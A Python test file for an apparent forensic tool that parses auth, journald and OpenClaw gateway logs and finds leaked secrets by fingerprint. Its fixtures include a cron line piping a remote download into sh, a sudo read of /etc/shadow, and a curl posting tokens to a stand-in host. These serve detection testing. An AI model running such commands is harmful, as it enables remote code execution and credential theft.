"""The parsers and the fingerprint search, on the formats as their programs write them."""

from __future__ import annotations

import base64
import io
import json
import struct
from datetime import UTC, datetime, timedelta, timezone
from typing import Any
from urllib.parse import quote

import pytest

from clawback.investigate.exposure import FingerprintMatcher, redact
from clawback.investigate.parser_names import known_parsers
from clawback.investigate.records import MemberRef
from clawback.investigate.rules import load_rules
from clawback.investigate.scrub import Scrubber
from clawback.investigate.sources import ParseContext, parser
from responders.interface import fingerprint

SECRET = "sk-proj-Zq8mN3vR7tK2pL9xW4cY6bH1jF5dG0sA"
OTHER = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
# The file was last written on 2026-11-22: a syslog line without a year is read in 2026.
MEMBER = MemberRef("a.tar.gz", "a/files/x", "/x", "a-0001", "",
                   datetime(2026, 11, 22, tzinfo=UTC).timestamp())


def _events(name: str, data: bytes, *, local: timezone = UTC):  # type: ignore[no-untyped-def]
    ctx = ParseContext(load_rules(user_default=False), local, datetime.now(UTC))
    return list(parser(name)(MEMBER, io.BufferedReader(io.BytesIO(data)), ctx)), ctx


def test_every_parser_name_the_rules_accept_reads_a_member() -> None:
    # The names live apart from the parsers (the rules check them without importing the
    # parsers): each must still lead to a function, and the shipped rules use only them.
    for name in sorted(known_parsers()):
        assert callable(parser(name)), name
    shipped = load_rules(user_default=False)
    assert {name for name, _ in shipped.sources} <= known_parsers()
    assert shipped.parser_for("/var/log/auth.log") == "auth-log"


# -- finding a value by its fingerprint -------------------------------------------------------

@pytest.mark.parametrize("text", [
    f"OPENAI_API_KEY={SECRET}\n",
    f'{{"apiKey": "{SECRET}"}}',
    f"curl -H 'Authorization: Bearer {SECRET}' https://api.example.com",
    f"https://u:{SECRET}@host.example/x",
    f"the key is {SECRET}.",
])
def test_a_value_is_found_by_its_fingerprint_alone(text: str) -> None:
    matcher = FingerprintMatcher([fingerprint(SECRET)])
    (match,) = matcher.find(text)
    assert text[match.start:match.end] == SECRET
    assert SECRET not in redact(text, [match])
    assert f"<secret {fingerprint(SECRET)}>" in redact(text, [match])


def test_encoded_values_are_found_where_decoding_is_asked_for() -> None:
    matcher = FingerprintMatcher([fingerprint(SECRET)])
    dotenv = f"GATEWAY=x\nOPENAI_API_KEY={SECRET}\nOTHER=y\n"
    wrapped = base64.encodebytes(dotenv.encode()).decode()  # 76-column lines, as `base64`
    assert "\n" in wrapped.strip()
    assert [m.encoded for m in matcher.find(wrapped)] == ["base64"]
    assert matcher.find(wrapped, decode=False) == []
    assert [m.encoded for m in matcher.find(f"https://x.example/?k={quote(SECRET + '/+')}")]


def test_a_value_sharing_only_the_last_four_is_not_taken_for_it() -> None:
    matcher = FingerprintMatcher([fingerprint(SECRET)])
    impostor = "sk-proj-" + "X" * 26 + SECRET[-4:]
    assert matcher.find(f"KEY={impostor}") == []
    assert matcher.find(SECRET[:-1]) == []
    short = FingerprintMatcher([fingerprint("abcd1234")], min_length=12)
    assert short.find("x=abcd1234") == []


def test_the_scrubber_leaves_no_secret_known_or_not() -> None:
    scrub = Scrubber(FingerprintMatcher([fingerprint(SECRET)]))
    text = (f"curl -d o={SECRET} -H 'Authorization: Bearer {OTHER}' "
            "-d OPENCLAW_GATEWAY_TOKEN=9f8e7d6c5b4a39281706f5e4d3c2b1a0 https://x.example")
    shown = scrub.text(text)
    for value in (SECRET, OTHER, "9f8e7d6c5b4a39281706f5e4d3c2b1a0"):
        assert value not in shown
    assert fingerprint(SECRET) in shown and fingerprint(OTHER) in shown
    assert "https://x.example" in shown


# -- system logs --------------------------------------------------------------------------------

def test_auth_log_classic_and_rfc3339_lines() -> None:
    zone = timezone(timedelta(hours=2))
    data = (b"Nov 21 02:03:04 host sshd[811]: Accepted publickey for agent from 203.0.113.9 "
            b"port 5022 ssh2: ED25519 SHA256:abc\n"
            b"2026-11-21T02:04:05.123456+02:00 host sudo:    agent : TTY=pts/0 ; PWD=/home/agent"
            b" ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow\n"
            b"Nov 21 02:05:00 host sshd[812]: Failed password for invalid user admin from "
            b"198.51.100.3 port 4242 ssh2\n"
            b"Nov 21 02:06:00 host useradd[900]: new user: name=backup, UID=1001\n"
            b"Nov 21 02:07:00 host CRON[77]: (root) CMD (curl -s http://203.0.113.5/x | sh)\n")
    events, _ = _events("auth-log", data, local=zone)
    kinds = [e.kind for e in events]
    assert kinds == ["auth.login", "auth.sudo", "auth.failure", "auth.account",
                     "cron.system_run"]
    login = events[0]
    assert login.attrs["from"] == "203.0.113.9" and login.attrs["user"] == "agent"
    assert login.ts == datetime(2026, 11, 21, 0, 3, 4, tzinfo=UTC)  # mtime's year, host zone
    assert events[1].ts == datetime(2026, 11, 21, 0, 4, 5, 123456, tzinfo=UTC)
    assert events[1].attrs["command"] == "/usr/bin/cat /etc/shadow"
    assert [e.ref.offset for e in events][:2] == [0, data.index(b"2026-11-21T02")]
    assert events[3].severity == "medium"
    # A line dated after the file's last write belongs to the year before (a log that spans
    # New Year).
    december, _ = _events("auth-log", b"Dec 31 23:59:00 host sshd[1]: Accepted password for a "
                                      b"from 192.0.2.1 port 1 ssh2\n")
    assert december[0].ts is not None and december[0].ts.year == 2025


def _journal_entry(fields: dict[str, bytes]) -> bytes:
    out = b""
    for key, value in fields.items():
        if b"\n" in value:
            out += key.encode() + b"\n" + struct.pack("<Q", len(value)) + value + b"\n"
        else:
            out += key.encode() + b"=" + value + b"\n"
    return out + b"\n"


def test_journal_export_with_binary_fields() -> None:
    at = datetime(2026, 11, 21, 1, 2, 3, tzinfo=UTC)
    micros = str(int(at.timestamp() * 1_000_000)).encode()
    data = (_journal_entry({"__REALTIME_TIMESTAMP": micros, "SYSLOG_IDENTIFIER": b"sshd",
                            "MESSAGE": b"Accepted password for root from 192.0.2.7 port 22 "
                                       b"ssh2"})
            + _journal_entry({"__REALTIME_TIMESTAMP": micros, "SYSLOG_IDENTIFIER": b"node",
                              "_SYSTEMD_UNIT": b"openclaw-gateway.service",
                              "MESSAGE": b"line one\n[ws] unauthorized conn=9 remote=192.0.2.8 "
                                         b"reason=token_mismatch"})
            + _journal_entry({"__REALTIME_TIMESTAMP": micros, "SYSLOG_IDENTIFIER": b"kernel",
                              "MESSAGE": b"eth0: link up"}))
    events, ctx = _events("journal-export", data)
    kinds = [e.kind for e in events]
    assert kinds == ["auth.login", "gateway.auth_failure", "log.line"]
    assert events[0].ts == at and events[0].attrs["from"] == "192.0.2.7"
    assert events[1].attrs.get("unit") == "openclaw-gateway.service"
    assert not ctx.unreadable


def test_gateway_file_log_lines_become_events_by_rule() -> None:
    data = (b'{"0":"{\\"subsystem\\":\\"gateway\\"}","1":"device pairing approved device=ab12 '
            b'role=operator","_meta":{"logLevelName":"INFO"},"time":"2026-11-21T01:00:00Z"}\n'
            b'{"0":"{\\"subsystem\\":\\"ws\\"}","1":"unauthorized conn=1 remote=192.0.2.9 '
            b'client=cli","time":"2026-11-21T01:00:01Z"}\n'
            b'not json at all\n'
            b'{"0":"{\\"subsystem\\":\\"gateway\\"}","1":"Config overwrite: /h/openclaw.json '
            b'(sha256 a -> b)","time":"2026-11-21T01:00:02Z"}\n')
    events, _ = _events("openclaw-gateway-log", data)
    assert [e.kind for e in events] == ["gateway.pairing", "gateway.auth_failure", "log.line",
                                        "config.write"]
    assert events[0].summary.startswith("[gateway] device pairing approved")
    assert events[3].ref.line == 4


def test_a_line_past_the_cap_is_skipped_not_buffered() -> None:
    from clawback.investigate.sealed import lines

    data = b"short\n" + b"x" * 5000 + b"\nafter\n"
    got = list(lines(io.BufferedReader(io.BytesIO(data)), max_line=1000))
    assert [(number, text) for _, number, text in got] == [(1, b"short"), (2, None),
                                                          (3, b"after")]
    assert got[2][0] == data.index(b"after")


def test_a_sparse_logs_holes_read_as_empty_lines() -> None:
    from clawback.investigate.sealed import lines

    # A sparse log sealed as evidence is megabytes of NUL bytes before its tail: no parser
    # should spend per-line work on them (a hostile home made contain's investigation take
    # minutes this way). A line with anything else in it is kept whole.
    data = b"\x00" * 300_000 + b"\n" + b"\x00a\x00\n" + b"tail\n"
    got = list(lines(io.BufferedReader(io.BytesIO(data))))
    assert [(number, text) for _, number, text in got] == [(1, b""), (2, b"\x00a\x00"),
                                                          (3, b"tail")]


def test_event_rules_read_a_gateway_log_lines_head_and_the_credential_scan_all_of_it() -> None:
    from clawback.investigate.sources.openclaw_logs import EVENT_TEXT_CHARS

    class Spy:
        def __init__(self, rule: Any, seen: list[int]) -> None:
            self.rule, self.seen = rule, seen

        def search(self, text: str) -> Any:
            self.seen.append(len(text))
            return self.rule.search(text)

        def __getattr__(self, name: str) -> Any:
            return getattr(self.rule, name)

    class SpiedRules:
        def __init__(self, rules: Any, seen: list[int]) -> None:
            self._rules = rules
            self.log_events = [Spy(r, seen) for r in rules.log_events]

        def __getattr__(self, name: str) -> Any:
            return getattr(self._rules, name)

    seen: list[int] = []
    padded = "unauthorized conn=1 " + "A" * 2_000_000 + f" {SECRET}"
    data = json.dumps({"1": padded, "time": "2026-11-21T01:00:01Z"}).encode() + b"\n"
    ctx = ParseContext(SpiedRules(load_rules(user_default=False), seen),  # type: ignore[arg-type]
                       UTC, datetime.now(UTC))
    (event,) = parser("openclaw-gateway-log")(MEMBER, io.BufferedReader(io.BytesIO(data)), ctx)
    assert event.kind == "gateway.auth_failure"  # its first words still name the event
    assert seen and max(seen) <= EVENT_TEXT_CHARS
    ((_, logged),) = event.texts
    assert logged.endswith(SECRET)  # the value at the end is still looked for


def test_config_audit_flags_a_mode_change_not_the_first_write() -> None:
    """OpenClaw's onboarding writes the config with no mode before it (measured on the real
    2026.2.26 install): that is no change of mode."""
    def write(before: object, after: object) -> bytes:
        return (json.dumps({"ts": "2026-11-21T01:00:00Z", "event": "config.write",
                            "argv": ["node", "openclaw.mjs", "onboard"], "suspicious": [],
                            "gatewayModeBefore": before, "gatewayModeAfter": after,
                            "result": "rename"}) + "\n").encode()

    events, _ = _events("openclaw-config-audit", write(None, "local") + write("local", "remote"))
    assert [e.flags for e in events] == [[], ["gateway-mode-changed"]]
    assert events[0].severity == "info" and events[1].severity == "medium"


def test_the_local_cli_pairing_itself_is_no_alarm() -> None:
    """OpenClaw's CLI pairs itself over loopback on its first call (seen on the real gateway):
    listed, low; a pairing from another address is medium."""
    def line(message: str) -> bytes:
        return (json.dumps({"0": json.dumps({"subsystem": "gateway"}), "1": message,
                            "time": "2026-11-21T01:00:00Z"}) + "\n").encode()

    events, _ = _events("openclaw-gateway-log", line(
        "device pairing auto-approved device=ab12 role=operator") + line(
        "device pairing approved device=cd34 role=operator remote=203.0.113.9"))
    assert [(e.kind, e.severity) for e in events] == [("gateway.pairing", "low"),
                                                      ("gateway.pairing", "medium")]
